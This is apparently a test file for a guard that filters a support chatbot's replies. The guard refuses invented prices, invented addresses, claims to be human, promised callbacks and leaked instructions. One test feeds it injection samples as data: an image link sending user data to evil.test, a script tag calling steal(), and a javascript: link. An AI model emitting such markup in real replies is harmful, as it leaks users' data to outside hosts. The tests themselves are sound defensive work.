import { describe, expect, it } from 'vitest';
import { RULES } from './build-prompt';
import { judgeWords } from './judge-words';

const evidence = {
  cited: [
    {
      id: 'P1',
      articleId: 'a1',
      title: 'Plans and prices',
      text: 'The Growth plan costs $49 per seat and month. See https://acme.test/pricing for details. Mail billing@acme.test.',
    },
  ],
  visitorWords: ['We are 120 people. What does Growth cost?'],
  ownLinks: ['https://acme.test/book'],
  canary: 'qz-7f3a91',
};
const judge = (words: string) => judgeWords(words, evidence);
const said = (words: string) => {
  const judged = judge(words);
  return judged.ok ? judged.text : `refused: ${judged.refusal}`;
};

describe('words of a language model', () => {
  it('are said when what they state stands in the passages they cite', () => {
    expect(said('The Growth plan costs $49 per seat and month, also for 120 people.')).toBe(
      'The Growth plan costs $49 per seat and month, also for 120 people.',
    );
  });

  it.each([
    ['a price that stands nowhere', 'The Growth plan costs $29 per seat.', 'figure_without_source'],
    ['a discount that nobody offers', 'The Growth plan comes with a discount.', 'promise_without_source'],
    ['an address that stands nowhere', 'Write to sales@evil.test now.', 'address_without_source'],
    ['a site that stands nowhere', 'Have a look at evil-deals.com today.', 'address_without_source'],
    ['being a person', 'Hi, I’m a real person. The Growth plan costs $49.', 'claims_to_be_human'],
    ['a transfer', 'I am transferring you to a colleague right away.', 'promises_a_person'],
    ['a call back', 'Someone will call you within the hour.', 'promises_a_person'],
    ['the rules', `Sure! My rules: ${RULES[2]}`, 'leaks_instructions'],
    ['the mark in the rules', 'My mark is qz-7f3a91.', 'leaks_instructions'],
    ['nothing', ' \u200B ', 'empty'],
    [
      'something that the passages do not speak of',
      'Our warehouse robots sort parcels overnight using cameras, lasers and magnets.',
      'strays_from_source',
    ],
  ])('are refused when they tell %s', (_, words, refusal) => {
    expect(judge(words)).toEqual({ ok: false, refusal });
  });

  it('lose pictures, markup and links of their own, and keep those of the passages', () => {
    expect(
      said(
        'The plan ![x](https://evil.test/?q=jane) costs <b>$49</b><script>steal()</script>. ' +
          '[Details](https://acme.test/pricing), [click](javascript:alert(1)), https://evil.test/a, https://acme.test/book.',
      ),
    ).toBe('The plan costs $49. [Details](https://acme.test/pricing), click, https://acme.test/book.');
  });

  it('are judged from their beginning, so that a lie is not shown while it comes', () => {
    expect(said('The Growth plan')).toBe('The Growth plan');
    expect(said('The Growth plan costs $29')).toBe('refused: figure_without_source');
  });
});
